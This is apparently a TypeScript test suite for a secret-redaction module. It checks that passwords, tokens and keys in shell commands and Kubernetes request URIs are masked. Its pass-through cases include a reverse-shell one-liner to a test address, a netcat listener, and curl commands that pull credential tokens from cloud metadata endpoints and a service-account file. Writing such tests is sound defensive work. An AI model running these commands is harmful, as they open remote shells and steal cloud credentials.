import { describe, expect, it } from 'vitest';
import {
  isSecretName,
  REDACTED,
  redactArgs,
  redactRequestUri,
  redactText,
} from '../../../src/normalize/secrets-in-text.ts';

describe('secret names', () => {
  it.each([
    'password',
    '--password',
    'PGPASSWORD',
    'MYSQL_ROOT_PASSWORD',
    'AWS_SECRET_ACCESS_KEY',
    'AWS_SESSION_TOKEN',
    'access_token',
    'X-Amz-Signature',
    'X-Amz-Security-Token',
    'sig',
    'key',
    'api-key',
    'X-Api-Key',
    'client_secret',
    'Authorization',
    'Cookie',
    'AccountKey',
    'secret-id',
    'token',
    'db_pwd',
  ])('%s holds a secret', (name) => {
    expect(isSecretName(name)).toBe(true);
  });

  it.each([
    'limit',
    'resourceVersion',
    'fieldSelector',
    'labelSelector',
    'container',
    'command',
    'continue',
    'timeoutSeconds',
    'watch',
    '--token-file',
    '--password-stdin',
    '--password-file',
    'secretName',
    'X-aws-ec2-metadata-token-ttl-seconds',
    'POSTGRES_PASSWORD_FILE',
    'PWD',
    'OLDPWD',
    '--no-password',
    'discovery-token-ca-cert-hash',
    'ssh-publickey',
    'Metadata-Flavor',
  ])('%s does not', (name) => {
    expect(isSecretName(name)).toBe(false);
  });
});

describe('secrets in command lines', () => {
  it.each([
    ['mysql -uroot -pS3cr3t! -h db shop', 'mysql -uroot -p[REDACTED] -h db shop'],
    ['mariadb-dump -u app -phunter2 shop', 'mariadb-dump -u app -p[REDACTED] shop'],
    ['sshpass -p hunter2 ssh root@10.0.0.5', 'sshpass -p [REDACTED] ssh root@10.0.0.5'],
    [
      'mongosh -u admin -p hunter2 --authenticationDatabase admin',
      'mongosh -u admin -p [REDACTED] --authenticationDatabase admin',
    ],
    ['redis-cli -h redis -a hunter2 ping', 'redis-cli -h redis -a [REDACTED] ping'],
    ['curl -u admin:hunter2 http://x', 'curl -u admin:[REDACTED] http://x'],
    ['curl --user=admin:hunter2 http://x', 'curl --user=admin:[REDACTED] http://x'],
    ['kubectl --token eyJfake.token.value get pods', 'kubectl --token [REDACTED] get pods'],
    ['kubectl --token=abcdef.0123456789abcdef get pods', 'kubectl --token=[REDACTED] get pods'],
    [
      "curl -H 'Authorization: Bearer abcdefghijkl123' https://api",
      "curl -H 'Authorization: [REDACTED]' https://api",
    ],
    ['curl -H "X-Api-Key: 0123456789" https://api', 'curl -H "X-Api-Key: [REDACTED]" https://api'],
    [
      'export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG; aws s3 ls',
      'export AWS_SECRET_ACCESS_KEY=[REDACTED]; aws s3 ls',
    ],
    ['export DB_PASSWORD="two words"; run', 'export DB_PASSWORD=[REDACTED]; run'],
    ['psql postgresql://app:s3cret@db:5432/app', 'psql postgresql://app:[REDACTED]@db:5432/app'],
    [
      'kubectl create secret generic db --from-literal=username=app --from-literal=password=hunter2',
      'kubectl create secret generic db --from-literal=username=[REDACTED] --from-literal=password=[REDACTED]',
    ],
    ['docker run -e API_TOKEN=abc123 img', 'docker run -e API_TOKEN=[REDACTED] img'],
    [
      'aws configure set aws_secret_access_key wJalrXUtnFEMI',
      'aws configure set aws_secret_access_key [REDACTED]',
    ],
    ['openssl enc -d -pass pass:hunter2 -in f', 'openssl enc -d -pass [REDACTED] -in f'],
    [
      'curl -d \'{"user":"a","password":"b"}\' http://x',
      'curl -d \'{"user":"a","password":"[REDACTED]"}\' http://x',
    ],
    [
      'curl "https://b.s3.amazonaws.com/k?X-Amz-Signature=abcdef&X-Amz-Expires=300"',
      'curl "https://b.s3.amazonaws.com/k?X-Amz-Signature=[REDACTED]&X-Amz-Expires=300"',
    ],
    [
      'git clone https://ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa@github.com/acme/x',
      'git clone https://[REDACTED]@github.com/acme/x',
    ],
    ['echo eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJrOHMifQ.c2lnbmF0dXJl | base64 -d', `echo ${REDACTED} | base64 -d`],
    [
      'DefaultEndpointsProtocol=https;AccountName=acme;AccountKey=abc==;EndpointSuffix=core.windows.net',
      'DefaultEndpointsProtocol=https;AccountName=acme;AccountKey=[REDACTED];EndpointSuffix=core.windows.net',
    ],
  ])('%s', (input, output) => {
    expect(redactText(input)).toBe(output);
  });

  it.each([
    'ls -la /app',
    'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
    'mysql -uroot -p$MYSQL_ROOT_PASSWORD shop',
    'curl -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default.svc/api',
    'TOKEN=$(curl -X PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 21600")',
    'curl -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/',
    'curl -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    'curl -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01',
    'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1',
    'docker login -u me --password-stdin registry.example.com',
    'nc -p 4444 -l',
  ])('keeps %s', (text) => {
    expect(redactText(text)).toBe(text);
  });

  it('reads options across arguments and returns the same array when nothing changed', () => {
    expect(redactArgs(['mysql', '-uroot', '--password', 'hunter2', 'shop'])).toEqual([
      'mysql',
      '-uroot',
      '--password',
      REDACTED,
      'shop',
    ]);
    expect(redactArgs(['curl', '-H', 'X-Api-Key: abc123', 'https://x'])).toEqual([
      'curl',
      '-H',
      `X-Api-Key: ${REDACTED}`,
      'https://x',
    ]);
    expect(redactArgs(['sh', '-c', 'mysql -pX db'])).toEqual(['sh', '-c', `mysql -p${REDACTED} db`]);
    const plain = ['ls', '-la', '/app'];
    expect(redactArgs(plain)).toBe(plain);
  });
});

describe('secrets in request URIs', () => {
  it('redacts an exec command argument and keeps every other parameter byte for byte', () => {
    const uri =
      '/api/v1/namespaces/shop/pods/web/exec?command=sh&command=-c&command=mysql+-uroot+-pS3cret+shop&container=web&stdin=true&stdout=true&tty=true';
    expect(redactRequestUri(uri)).toBe(
      '/api/v1/namespaces/shop/pods/web/exec?command=sh&command=-c&command=mysql%20-uroot%20-p[REDACTED]%20shop&container=web&stdin=true&stdout=true&tty=true',
    );
  });

  it('redacts a secret in a separate command argument', () => {
    const uri =
      '/api/v1/namespaces/shop/pods/web/exec?command=vault&command=login&command=-method%3Duserpass&command=username%3Dops&command=password%3Dhunter2&container=web&stdout=true';
    const out = redactRequestUri(uri);
    expect(out).not.toContain('hunter2');
    expect(new URLSearchParams(out.split('?')[1]).getAll('command')).toEqual([
      'vault',
      'login',
      '-method=userpass',
      'username=ops',
      `password=${REDACTED}`,
    ]);
  });

  it('redacts credential-like query parameters of any request', () => {
    expect(
      redactRequestUri(
        '/api/v1/namespaces/monitoring/services/grafana:3000/proxy/api/search?access_token=abc&limit=5',
      ),
    ).toBe(
      '/api/v1/namespaces/monitoring/services/grafana:3000/proxy/api/search?access_token=[REDACTED]&limit=5',
    );
    expect(redactRequestUri('/apis/x/v1/things?url=https%3A%2F%2Fu%3Ap4ss%40h%2F')).not.toContain('p4ss');
  });

  it('leaves ordinary URIs as they are (same string)', () => {
    for (const uri of [
      '/api/v1/pods?limit=500&resourceVersion=0',
      '/api/v1/namespaces/shop/pods/web/exec?command=ls&command=-la&container=web&stderr=true&stdout=true',
      '/api/v1/nodes?fieldSelector=metadata.name%3Dip-10-0-1-2&watch=true',
      '/api/v1/namespaces/kube-system/secrets/x',
      '/healthz',
    ])
      expect(redactRequestUri(uri)).toBe(uri);
  });
});
